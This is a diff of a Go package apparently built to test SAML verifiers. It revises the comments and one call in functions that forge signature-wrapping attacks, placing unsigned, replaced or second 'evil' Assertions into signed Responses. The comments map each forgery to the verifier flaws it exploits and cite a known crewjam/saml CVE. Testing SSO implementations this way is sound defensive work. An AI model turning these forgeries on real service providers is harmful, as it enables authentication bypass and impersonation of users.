@@ -13,10 +13,9 @@ package samlattack
 //	  <Assertion ID="_evil…"> victim </Assertion>
 //	</Response>
 //
-// Live against a reader of /Response/Assertion (or the last Assertion)
-// whose verifier accepts a valid signature without checking that its
-// Reference is the Response's ID. A Response signature in the input is
-// dropped.
+// Live against: root, last, with a verifier that accepts a valid
+// signature without checking that its Reference is the Response's ID. A
+// Response signature in the input is dropped.
 func UnsignedAssertionInSignedResponse(signed []byte, a Attacker) ([]byte, error) {
 	doc, root, err := parseResponse(signed)
 	if err != nil {
@@ -37,7 +36,7 @@ func UnsignedAssertionInSignedResponse(signed []byte, a Attacker) ([]byte, error
 		root.RemoveChild(s)
 	}
 	replace(assertion, evil)
-	insertAfter(root, moved, [2]string{nsAssertion, "Issuer"})
+	insertAfter(root, moved, issuerName)
 	return write(doc)
 }
 
@@ -47,9 +46,11 @@ func UnsignedAssertionInSignedResponse(signed []byte, a Attacker) ([]byte, error
 // Assertion's ID and no signature. The Response's digest no longer matches:
 // no signature in the document verifies.
 //
-// Dead against any verifier that recomputes the digest; it pins an SP that
-// trusts a Response because it carries a Signature element, or that checks
-// the SignatureValue over SignedInfo without the Reference's DigestValue.
+// Dead against any verifier that recomputes the digest (no signature
+// verifies, so it is live against none of the naive readers); it pins an
+// SP that trusts a Response because it carries a Signature element, or
+// that checks the SignatureValue over SignedInfo without the Reference's
+// DigestValue.
 func ReplacedAssertionInSignedResponse(signed []byte, a Attacker) ([]byte, error) {
 	doc, root, err := parseResponse(signed)
 	if err != nil {
@@ -84,9 +85,9 @@ func ReplacedAssertionInSignedResponse(signed []byte, a Attacker) ([]byte, error
 //
 // SAML allows several Assertions in a Response; an SP must accept exactly
 // the one the signature covers. Live against an SP that verifies one
-// Assertion and reads another: here, a reader that takes the last
-// Assertion, or merges all of them (crewjam/saml's CVE-2022-41912 was of
-// this family: several Assertions, one verified and another one used).
+// Assertion and reads another: here, last, which reads all of them
+// (crewjam/saml's CVE-2022-41912 was of this family: several Assertions,
+// one verified and another one used).
 func SecondAssertion(signed []byte, a Attacker) ([]byte, error) {
 	doc, root, err := parseResponse(signed)
 	if err != nil {
